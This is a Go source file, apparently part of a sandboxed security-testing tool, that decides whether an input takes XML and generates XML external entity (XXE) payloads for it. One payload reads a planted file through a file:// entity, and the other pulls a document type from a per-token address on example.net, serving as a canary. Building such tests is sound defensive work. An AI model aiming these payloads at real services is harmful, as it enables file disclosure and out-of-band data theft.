package oracle

import (
	"regexp"
	"strings"

	"github.com/coalmine-dev/coalmine/sandbox/session"
)

var (
	// xmlProlog is what may stand before a document's root: a declaration and a document type (XML 1.0, section 2.8).
	xmlProlog = regexp.MustCompile(`(?s)^\s*(?:<\?xml.*?\?>\s*)?(?:<!DOCTYPE[^>\[]*>\s*)?`)
	// xmlRoot is the start tag of a root.
	xmlRoot = regexp.MustCompile(`(?s)^<([A-Za-z_][\w.:-]*)(\s[^<>]*)?>`)
	// xmlWords are those by which a tool says that it takes XML.
	xmlWords = regexp.MustCompile(`(?i)\b(?:xml|svg|rss|atom|soap|xslt|xsd|opml|gpx|kml|sitemap|plist|junit|pom)\b`)
)

// leastDocument stands for a document where a place has none.
const leastDocument = "<doc><item>a</item></doc>"

// TakesXML reports whether a place takes an XML document, by what stands there, or by its name and what is said of it.
func TakesXML(p Place, said string) bool {
	return xmlRoot.MatchString(xmlProlog.ReplaceAllString(p.Value, "")) || xmlWords.MatchString(strings.ReplaceAll(p.Name, "_", " ")+" "+said) && !strings.HasPrefix(p.Value, "/")
}

// Entities are a document with a type that names an external entity (XML 1.0, section 4.2.2): a planted file, which the
// root's text refers to, and an address as the type itself. value is the document that is there, if it is one.
func Entities(w *World, value, token string) []Input {
	body := xmlProlog.ReplaceAllString(value, "")
	root := xmlRoot.FindStringSubmatchIndex(body)
	if root == nil {
		body = leastDocument
		root = xmlRoot.FindStringSubmatchIndex(body)
	}
	name := body[root[2]:root[3]]
	file := "<!DOCTYPE " + name + " [<!ENTITY ext SYSTEM \"file://" + w.Outside.Stem + ".txt\">]>" + body[:root[1]] + "&ext;" + body[root[1]:]
	host := token + ".example.net"
	address := "<!DOCTYPE " + name + " SYSTEM \"http://" + host + "/" + token + "\">" + body
	return []Input{
		{Text: file, Injection: session.Injection{Oracle: session.OracleEntity, Context: "file as an entity", Path: w.Outside.Stem, Value: w.Outside.Value}},
		{Text: address, Injection: session.Injection{Oracle: session.OracleEntity, Context: "external document type", Token: token, Host: host}},
	}
}
